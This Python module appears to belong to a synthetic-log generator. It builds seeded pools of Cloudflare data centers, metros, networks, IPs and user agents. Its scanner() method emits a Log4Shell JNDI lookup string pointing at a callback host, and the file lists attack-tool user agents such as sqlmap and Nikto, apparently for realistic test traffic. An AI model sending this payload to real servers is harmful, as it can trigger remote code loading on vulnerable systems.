"""Value pools: the addresses, networks, places, agents and sites records are drawn from.

Calling faker for every field of every record is what makes naive generators slow, so faker (and
a few hand-written tables of public facts: data-center airport codes, city coordinates, well-known
networks) is used once, up front, to build pools. Record builders then only pick from them with a
seeded `random.Random`.

Everything here is a pure function of the seed: the same seed (with the same faker version)
builds the same pools.
"""

from __future__ import annotations

import ipaddress
import random
from dataclasses import dataclass

from faker import Faker

__all__ = [
    "Agent",
    "subnet",
    "Colo",
    "Metro",
    "Network",
    "Pools",
    "geohash",
]


@dataclass(frozen=True)
class Colo:
    """A Cloudflare data center: IATA code, a numeric ID and where it is."""

    code: str
    id: int
    city: str
    country: str
    latitude: float
    longitude: float

    @property
    def site(self) -> str:
        return f"{self.code.lower()}01"


@dataclass(frozen=True)
class Metro:
    """A place clients come from, with the data center that serves it."""

    country: str
    city: str
    region: str
    latitude: float
    longitude: float
    colo: str
    weight: float


@dataclass(frozen=True)
class Network:
    """An autonomous system."""

    asn: int
    name: str
    country: str


@dataclass(frozen=True)
class Agent:
    """A user agent and what it implies: device class, TLS fingerprint family, bot facts."""

    user_agent: str
    device: str
    family: str
    bot_category: str = ""
    bot_tag: str = ""


# Data centers: airport code, city, country, latitude, longitude. IDs are our own numbering.
_COLOS = """
IAD Ashburn US 38.94 -77.46|EWR Newark US 40.69 -74.17|ORD Chicago US 41.98 -87.90
DFW Dallas US 32.90 -97.04|ATL Atlanta US 33.64 -84.43|MIA Miami US 25.79 -80.29
LAX Los Angeles US 33.94 -118.41|SJC San Jose US 37.36 -121.93|SEA Seattle US 47.45 -122.31
DEN Denver US 39.86 -104.67|PHX Phoenix US 33.43 -112.01|BOS Boston US 42.36 -71.01
YYZ Toronto CA 43.68 -79.63|YVR Vancouver CA 49.19 -123.18|YUL Montreal CA 45.47 -73.74
QRO Queretaro MX 20.62 -100.19|GRU Sao Paulo BR -23.43 -46.47|GIG Rio de Janeiro BR -22.81 -43.25
EZE Buenos Aires AR -34.82 -58.54|SCL Santiago CL -33.39 -70.79|BOG Bogota CO 4.70 -74.15
LHR London GB 51.47 -0.45|MAN Manchester GB 53.35 -2.27|DUB Dublin IE 53.42 -6.27
CDG Paris FR 49.01 2.55|MRS Marseille FR 43.44 5.22|FRA Frankfurt DE 50.03 8.57
DUS Dusseldorf DE 51.29 6.77|HAM Hamburg DE 53.63 9.99|MUC Munich DE 48.35 11.79
AMS Amsterdam NL 52.31 4.76|MAD Madrid ES 40.47 -3.56|MXP Milan IT 45.63 8.72
FCO Rome IT 41.80 12.25|WAW Warsaw PL 52.17 20.97|ARN Stockholm SE 59.65 17.92
DME Moscow RU 55.41 37.90|IST Istanbul TR 41.26 28.74|BOM Mumbai IN 19.09 72.87
DEL New Delhi IN 28.56 77.10|MAA Chennai IN 12.99 80.17|BLR Bangalore IN 13.20 77.71
SIN Singapore SG 1.36 103.99|NRT Tokyo JP 35.77 140.39|KIX Osaka JP 34.43 135.24
ICN Seoul KR 37.46 126.44|HKG Hong Kong HK 22.31 113.91|TPE Taipei TW 25.08 121.23
SYD Sydney AU -33.94 151.18|MEL Melbourne AU -37.67 144.84|CGK Jakarta ID -6.13 106.66
MNL Manila PH 14.51 121.02|SGN Ho Chi Minh City VN 10.82 106.65|BKK Bangkok TH 13.69 100.75
JNB Johannesburg ZA -26.14 28.25|LOS Lagos NG 6.58 3.32|CAI Cairo EG 30.12 31.41
DXB Dubai AE 25.25 55.36|RUH Riyadh SA 24.96 46.70
"""

# Client metros: country weight (share of traffic), then city / ISO 3166-2 region / lat / lon / colo.
_METROS = """
us 30: New York,NY,40.71,-74.01,EWR; Los Angeles,CA,34.05,-118.24,LAX; Chicago,IL,41.88,-87.63,ORD;
  Houston,TX,29.76,-95.37,DFW; Dallas,TX,32.78,-96.80,DFW; Phoenix,AZ,33.45,-112.07,PHX;
  Philadelphia,PA,39.95,-75.17,EWR; San Jose,CA,37.34,-121.89,SJC; San Francisco,CA,37.77,-122.42,SJC;
  Seattle,WA,47.61,-122.33,SEA; Denver,CO,39.74,-104.99,DEN; Boston,MA,42.36,-71.06,BOS;
  Atlanta,GA,33.75,-84.39,ATL; Miami,FL,25.76,-80.19,MIA; Ashburn,VA,39.04,-77.49,IAD;
  Detroit,MI,42.33,-83.05,ORD; Minneapolis,MN,44.98,-93.27,ORD; Portland,OR,45.52,-122.68,SEA;
  Columbus,OH,39.96,-83.00,IAD; Kansas City,MO,39.10,-94.58,DFW
ca 3: Toronto,ON,43.65,-79.38,YYZ; Montreal,QC,45.50,-73.57,YUL; Vancouver,BC,49.28,-123.12,YVR;
  Calgary,AB,51.05,-114.07,YVR
mx 2: Mexico City,CMX,19.43,-99.13,QRO; Guadalajara,JAL,20.66,-103.35,QRO; Monterrey,NLE,25.69,-100.32,DFW
br 5: Sao Paulo,SP,-23.55,-46.63,GRU; Rio de Janeiro,RJ,-22.91,-43.17,GIG; Belo Horizonte,MG,-19.92,-43.94,GRU;
  Brasilia,DF,-15.79,-47.88,GRU
ar 1: Buenos Aires,C,-34.60,-58.38,EZE
cl 0.4: Santiago,RM,-33.45,-70.67,SCL
co 0.8: Bogota,DC,4.71,-74.07,BOG; Medellin,ANT,6.24,-75.58,BOG
gb 5: London,ENG,51.51,-0.13,LHR; Manchester,ENG,53.48,-2.24,MAN; Birmingham,ENG,52.49,-1.89,LHR;
  Glasgow,SCT,55.86,-4.25,MAN
ie 0.5: Dublin,L,53.35,-6.26,DUB
fr 4: Paris,IDF,48.86,2.35,CDG; Lyon,ARA,45.76,4.84,MRS; Marseille,PAC,43.30,5.37,MRS
de 5: Berlin,BE,52.52,13.40,HAM; Munich,BY,48.14,11.58,MUC; Frankfurt am Main,HE,50.11,8.68,FRA;
  Hamburg,HH,53.55,9.99,HAM; Cologne,NW,50.94,6.96,DUS
nl 2: Amsterdam,NH,52.37,4.90,AMS; Rotterdam,ZH,51.92,4.48,AMS
es 2: Madrid,MD,40.42,-3.70,MAD; Barcelona,CT,41.39,2.17,MAD
it 2: Milan,25,45.46,9.19,MXP; Rome,62,41.90,12.50,FCO
pl 1.2: Warsaw,14,52.23,21.01,WAW
se 0.6: Stockholm,AB,59.33,18.07,ARN
ru 3: Moscow,MOW,55.76,37.62,DME; Saint Petersburg,SPE,59.93,30.34,DME
ua 0.5: Kyiv,30,50.45,30.52,WAW
tr 1.5: Istanbul,34,41.01,28.98,IST; Ankara,06,39.93,32.86,IST
in 7: Mumbai,MH,19.08,72.88,BOM; Delhi,DL,28.70,77.10,DEL; Bengaluru,KA,12.97,77.59,BLR;
  Chennai,TN,13.08,80.27,MAA; Hyderabad,TG,17.39,78.49,BLR; Kolkata,WB,22.57,88.36,DEL
sg 1: Singapore,01,1.29,103.85,SIN
jp 4: Tokyo,13,35.68,139.69,NRT; Osaka,27,34.69,135.50,KIX; Yokohama,14,35.44,139.64,NRT
kr 2: Seoul,11,37.57,126.98,ICN; Busan,26,35.18,129.08,ICN
cn 4: Beijing,BJ,39.90,116.41,HKG; Shanghai,SH,31.23,121.47,HKG; Shenzhen,GD,22.54,114.06,HKG
hk 0.6: Hong Kong,HCW,22.28,114.16,HKG
tw 0.6: Taipei,TPE,25.03,121.57,TPE
au 2: Sydney,NSW,-33.87,151.21,SYD; Melbourne,VIC,-37.81,144.96,MEL; Brisbane,QLD,-27.47,153.03,SYD
id 2.5: Jakarta,JK,-6.21,106.85,CGK; Surabaya,JI,-7.25,112.75,CGK
ph 1: Manila,00,14.60,120.98,MNL
vn 1.2: Ho Chi Minh City,SG,10.82,106.63,SGN; Hanoi,HN,21.03,105.85,SGN
th 1: Bangkok,10,13.76,100.50,BKK
za 0.8: Johannesburg,GP,-26.20,28.05,JNB; Cape Town,WC,-33.92,18.42,JNB
ng 0.8: Lagos,LA,6.52,3.38,LOS
eg 0.6: Cairo,C,30.04,31.24,CAI
ae 0.6: Dubai,DU,25.20,55.27,DXB
sa 0.6: Riyadh,01,24.71,46.68,RUH
"""

# Consumer networks per country: "ASN NAME" pairs.
_EYEBALL_NETWORKS = """
us: 7922 COMCAST-7922|7018 ATT-INTERNET4|701 UUNET|20115 CHARTER-20115|22773 ASN-CXA-ALL-CCI-22773-RDC|21928 T-MOBILE-AS21928|6167 CELLCO-PART
ca: 812 ROGERS-COMMUNICATIONS|577 BACOM|852 ASN852
mx: 8151 Uninet S.A. de C.V.|28548 Cablevision S.A. de C.V.
br: 28573 Claro NXT Telecomunicacoes Ltda|18881 TELEFONICA BRASIL S.A|8167 V tal
ar: 7303 Telecom Argentina S.A.|22927 Telefonica de Argentina
cl: 7418 TELEFONICA CHILE S.A.
co: 3816 COLOMBIA TELECOMUNICACIONES S.A. ESP
gb: 2856 BT-UK-AS|5089 NTL|5607 BSKYB-BROADBAND-AS|12576 EE
ie: 5466 EIRCOM
fr: 3215 Orange|12322 PROXAD|5410 BOUYGTEL-ISP|15557 LDCOMNET
de: 3320 DTAG|3209 VODANET|6805 TDDE-ASN1|8881 VERSATEL
nl: 1136 KPN|33915 TNF-AS
es: 3352 TELEFONICA_DE_ESPANA|12479 UNI2-AS
it: 3269 ASN-IBSNAZ|30722 VODAFONE-IT-ASN|1267 ASN-WINDTRE
pl: 5617 TPNET
se: 3301 TELIANET-SWEDEN
ru: 12389 ROSTELECOM-AS|8359 MTS|31213 MEGAFON-AS
ua: 15895 KSNET-AS
tr: 9121 TTNET|16135 TURKCELL-AS
in: 55836 RELIANCEJIO-IN|24560 AIRTELBROADBAND-AS-AP|9829 BSNL-NIB
sg: 9506 SINGTEL-FIBRE|4657 STARHUB-INTERNET
jp: 2516 KDDI|4713 OCN|17676 GIGAINFRA
kr: 4766 KIXS-AS-KR|9318 SKB-AS
cn: 4134 CHINANET-BACKBONE|4837 CHINA169-BACKBONE|9808 CHINAMOBILE-CN
hk: 4760 HKTIMS-AP|9269 HKBN-AS-AP
tw: 3462 HINET
au: 1221 ASN-TELSTRA|7545 TPG-INTERNET-AP
id: 7713 TELKOMNET-AS-AP|23693 TELKOMSEL-ASN-ID
ph: 9299 IPG-AS-AP|132199 GLOBE-MOBILE-5TH-GEN-AS
vn: 7552 VIETEL-AS-AP|45899 VNPT-AS-VN
th: 7470 TRUEINTERNET-AS-AP
za: 37457 Telkom-Internet|36994 Vodacom-VB
ng: 29465 VCG-AS
eg: 8452 TE-AS
ae: 5384 EMIRATES-INTERNET
sa: 25019 SAUDINETSTC-AS
"""

# Hosting and cloud networks, where crawlers, scripts and scanners live.
_HOSTING_NETWORKS = """
us: 16509 AMAZON-02|14618 AMAZON-AES|15169 GOOGLE|396982 GOOGLE-CLOUD-PLATFORM|8075 MICROSOFT-CORP-MSN-AS-BLOCK|14061 DIGITALOCEAN-ASN|63949 AKAMAI-LINODE-AP|20473 AS-VULTR
de: 24940 HETZNER-AS|51167 CONTABO|8560 IONOS-AS
fr: 16276 OVH
nl: 9009 M247
cn: 45102 ALIBABA-CN-NET|132203 TENCENT-NET-AP-CN
"""

# Verified bots: user agent, fingerprint family, Cloudflare bot category, tag, network.
_VERIFIED_BOTS = [
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Search Engine Crawler", "google", (15169, "GOOGLE", "us"), 30),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Search Engine Crawler", "bing", (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "us"), 15),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", "Search Engine Crawler", "apple", (714, "APPLE-ENGINEERING", "us"), 6),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", "Search Engine Crawler", "yandex", (13238, "YANDEX", "ru"), 5),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Page Preview", "facebook", (32934, "FACEBOOK", "us"), 8),
    ("Twitterbot/1.0", "Page Preview", "twitter", (13414, "TWITTER", "us"), 3),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", "AI Crawler", "openai", (8075, "MICROSOFT-CORP-MSN-AS-BLOCK", "us"), 8),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", "AI Crawler", "anthropic", (16509, "AMAZON-02", "us"), 5),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "Search Engine Optimization", "ahrefs", (16276, "OVH", "fr"), 8),
    ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "Monitoring & Analytics", "uptimerobot", (63949, "AKAMAI-LINODE-AP", "us"), 8),
    ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "Monitoring & Analytics", "pingdom", (14618, "AMAZON-AES", "us"), 4),
]

_SCRIPT_AGENTS = [
    ("curl/8.{a}.{b}", "curl", (0, 11), (0, 1)),
    ("python-requests/2.{a}.{b}", "python", (25, 32), (0, 3)),
    ("Go-http-client/{a}.{b}", "go", (1, 2), (0, 1)),
    ("okhttp/4.{a}.{b}", "okhttp", (9, 12), (0, 0)),
    ("Wget/1.21.{a}", "wget", (1, 4), (0, 0)),
    ("PostmanRuntime/7.{a}.{b}", "node", (36, 42), (0, 3)),
    ("axios/1.{a}.{b}", "node", (6, 7), (0, 9)),
    ("python-httpx/0.{a}.{b}", "python", (25, 27), (0, 2)),
    ("Java/17.0.{a}", "java", (8, 12), (0, 0)),
]

_SCANNER_AGENTS = [
    ("sqlmap/1.{a}.{b}#stable (https://sqlmap.org)", "python"),
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:00{a}{b}3)", "perl"),
    ("Mozilla/5.0 zgrab/0.x", "go"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "go"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "nmap"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36", "go"),
    ("l9explore/1.{a}.{b}", "go"),
]

# Browser agents: template, device, family, weight. {v} is a major version, {a}/{b} OS versions.
_BROWSERS = [
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36", "desktop", "chrome", 30),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36", "desktop", "chrome", 10),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0", "desktop", "chrome", 8),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36", "desktop", "chrome", 2),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{f}.0) Gecko/20100101 Firefox/{f}.0", "desktop", "firefox", 5),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:{f}.0) Gecko/20100101 Firefox/{f}.0", "desktop", "firefox", 1),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{a}.{b} Safari/605.1.15", "desktop", "safari", 6),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS {a}_{b} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{a}.{b} Mobile/15E148 Safari/604.1", "mobile", "safari", 16),
    ("Mozilla/5.0 (iPad; CPU OS {a}_{b} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{a}.{b} Mobile/15E148 Safari/604.1", "tablet", "safari", 3),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36", "mobile", "chrome", 16),
    ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{s}.0 Chrome/{v}.0.0.0 Mobile Safari/537.36", "mobile", "chrome", 3),
]

# Cloudflare edge address blocks; EdgeServerIP values come from these.
_EDGE_PREFIXES = ("172.68", "172.69", "172.70", "172.71", "162.158", "141.101", "108.162", "173.245")

# Well-known IPv6 allocation prefixes, so generated IPv6 clients look routable.
_IPV6_PREFIXES = ("2001:4860", "2600:1700", "2601:647", "2603:8080", "2607:fb90", "2a01:e0a", "2a02:8108", "2a00:23c6",
                  "2405:201", "2409:8a28", "2400:4051", "2804:14d", "2406:3003")


def _parse_colos() -> dict[str, Colo]:
    colos = {}
    for number, item in enumerate(x.strip() for x in _COLOS.replace("\n", "|").split("|") if x.strip()):
        code, *city, country, lat, lon = item.split()
        # IDs are stable, made-up numbers: real ones are internal to Cloudflare.
        colos[code] = Colo(code, 11 + number * 7, " ".join(city), country, float(lat), float(lon))
    return colos


def _parse_metros() -> list[Metro]:
    metros = []
    for block in _METROS.strip().split("\n"):
        if block.startswith("  "):
            rest = block
        else:
            head, rest = block.split(":", 1)
            country, weight = head.split()
        places = [p.strip() for p in rest.split(";") if p.strip()]
        for place in places:
            city, region, lat, lon, colo = place.split(",")
            metros.append(Metro(country, city, region, float(lat), float(lon), colo, float(weight)))
    # A country's weight is shared by its cities.
    per_country: dict[str, int] = {}
    for m in metros:
        per_country[m.country] = per_country.get(m.country, 0) + 1
    return [Metro(m.country, m.city, m.region, m.latitude, m.longitude, m.colo, m.weight / per_country[m.country]) for m in metros]


def _parse_networks(table: str) -> dict[str, list[Network]]:
    networks: dict[str, list[Network]] = {}
    for line in table.strip().splitlines():
        country, rest = line.split(":", 1)
        for item in rest.split("|"):
            asn, name = item.strip().split(" ", 1)
            networks.setdefault(country, []).append(Network(int(asn), name, country))
    return networks


COLOS = _parse_colos()
METROS = _parse_metros()
EYEBALL_NETWORKS = _parse_networks(_EYEBALL_NETWORKS)
HOSTING_NETWORKS = [n for group in _parse_networks(_HOSTING_NETWORKS).values() for n in group]

def subnet(address: str, v4_bits: int = 24, v6_bits: int = 64) -> ipaddress.IPv4Network | ipaddress.IPv6Network:
    """The network an address sits in, /24 for IPv4 and /64 for IPv6 unless told otherwise."""
    bits = v6_bits if ":" in address else v4_bits
    return ipaddress.ip_network(f"{address}/{bits}", strict=False)


_GEOHASH_ALPHABET = "0123456789bcdefghjkmnpqrstuvwxyz"


def geohash(latitude: float, longitude: float, precision: int = 5) -> str:
    """Encode a position as a geohash, as Network Analytics logs carry locations."""
    lat_lo, lat_hi, lon_lo, lon_hi = -90.0, 90.0, -180.0, 180.0
    chars, bits, bit_count, even = [], 0, 0, True
    while len(chars) < precision:
        if even:
            middle = (lon_lo + lon_hi) / 2
            bits = bits * 2 + (longitude >= middle)
            lon_lo, lon_hi = (middle, lon_hi) if longitude >= middle else (lon_lo, middle)
        else:
            middle = (lat_lo + lat_hi) / 2
            bits = bits * 2 + (latitude >= middle)
            lat_lo, lat_hi = (middle, lat_hi) if latitude >= middle else (lat_lo, middle)
        even = not even
        bit_count += 1
        if bit_count == 5:
            chars.append(_GEOHASH_ALPHABET[bits])
            bits, bit_count = 0, 0
    return "".join(chars)


class Pools:
    """Seeded value factories, used while building a dataset's pools (never per record)."""

    def __init__(self, seed: int, purpose: str) -> None:
        self.rng = random.Random(f"hecharness:{purpose}:{seed}")
        self.fake = Faker("en_US")
        self.fake.seed_instance(self.rng.getrandbits(64))
        self._metro_weights = [m.weight for m in METROS]
        self._small_networks: list[Network] = []
        self._subnets: list[str] = []
        self._edge_ips: dict[str, tuple[str, ...]] = {}

    # -- places and networks -------------------------------------------------------------

    def metro(self) -> Metro:
        return self.rng.choices(METROS, weights=self._metro_weights)[0]

    def colo(self, code: str) -> Colo:
        return COLOS[code]

    def eyeball_network(self, country: str) -> Network:
        known = EYEBALL_NETWORKS.get(country)
        # One client in five sits on a smaller network nobody has heard of.
        if known and self.rng.random() < 0.8:
            return self.rng.choice(known)
        return self.small_network(country)

    def small_network(self, country: str) -> Network:
        # A few dozen small networks, reused: the same regional ISPs show up again and again.
        if len(self._small_networks) < 40:
            name = self.fake.company().upper().replace(",", "").replace(" ", "-").replace(".", "")
            self._small_networks.append(Network(self.rng.randint(30000, 400000), f"{name}-AS", country))
            return self._small_networks[-1]
        network = self.rng.choice(self._small_networks)
        return Network(network.asn, network.name, country)

    def hosting_network(self) -> Network:
        return self.rng.choice(HOSTING_NETWORKS)

    def ipv4(self) -> str:
        # Addresses cluster in a few hundred public /24s (from faker), as clients of one ISP do.
        if len(self._subnets) < 400:
            self._subnets.append(self.fake.ipv4_public().rsplit(".", 1)[0])
            subnet = self._subnets[-1]
        else:
            subnet = self.rng.choice(self._subnets)
        return f"{subnet}.{self.rng.randint(1, 254)}"

    def ipv6(self) -> str:
        rest = ":".join(f"{self.rng.getrandbits(16):x}" for _ in range(6))
        return str(ipaddress.IPv6Address(f"{self.rng.choice(_IPV6_PREFIXES)}:{rest}"))

    def client_ip(self, v6_share: float = 0.25) -> str:
        return self.ipv6() if self.rng.random() < v6_share else self.ipv4()

    def edge_ips(self, colo: str) -> tuple[str, ...]:
        """Four addresses of servers in a data center, the same ones for every caller."""
        if colo not in self._edge_ips:
            rng = self.rng
            self._edge_ips[colo] = tuple(f"{rng.choice(_EDGE_PREFIXES)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(4))
        return self._edge_ips[colo]

    # -- agents -----------------------------------------------------------------------------

    def browser(self) -> Agent:
        rng = self.rng
        if rng.random() < 0.05:
            # The long tail: old and odd browsers, as faker knows them.
            ua = self.fake.user_agent()
            device = "mobile" if ("Mobile" in ua or "iPhone" in ua or "Android" in ua) else "tablet" if "iPad" in ua else "desktop"
            return Agent(ua, device, "legacy")
        template, device, family, _ = rng.choices(_BROWSERS, weights=[b[3] for b in _BROWSERS])[0]
        ios = rng.randint(16, 18)
        ua = template.format(v=rng.randint(122, 131), f=rng.randint(115, 133), a=ios, b=rng.randint(0, 6), s=rng.randint(23, 27))
        return Agent(ua, device, family)

    def verified_bot(self) -> tuple[Agent, Network]:
        ua, category, tag, (asn, name, country), _ = self.rng.choices(_VERIFIED_BOTS, weights=[b[4] for b in _VERIFIED_BOTS])[0]
        return Agent(ua, "desktop", tag, category, tag), Network(asn, name, country)

    def script(self) -> Agent:
        template, family, (a_lo, a_hi), (b_lo, b_hi) = self.rng.choice(_SCRIPT_AGENTS)
        ua = template.format(a=self.rng.randint(a_lo, a_hi), b=self.rng.randint(b_lo, b_hi))
        return Agent(ua, "desktop", family)

    def scanner(self, callback_host: str) -> Agent:
        if self.rng.random() < 0.12:
            # Log4Shell probes put the lookup in the user agent itself.
            return Agent(f"${{jndi:ldap://{callback_host}:1389/a}}", "desktop", "go")
        template, family = self.rng.choice(_SCANNER_AGENTS)
        return Agent(template.format(a=self.rng.randint(5, 8), b=self.rng.randint(0, 9)), "desktop", family)

    # -- small helpers ----------------------------------------------------------------------

    def hex(self, digits: int) -> str:
        return f"{self.rng.getrandbits(4 * digits):0{digits}x}"

    def uuid(self) -> str:
        h = self.hex(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    def word(self) -> str:
        return self.fake.word()

    def slug(self, words: int = 3) -> str:
        return "-".join(self.fake.word() for _ in range(words))

    def weighted(self, options: dict, k: int | None = None):
        """Pick from a {value: weight} table; several picks when k is given."""
        values = list(options)
        picks = self.rng.choices(values, weights=list(options.values()), k=k or 1)
        return picks if k else picks[0]
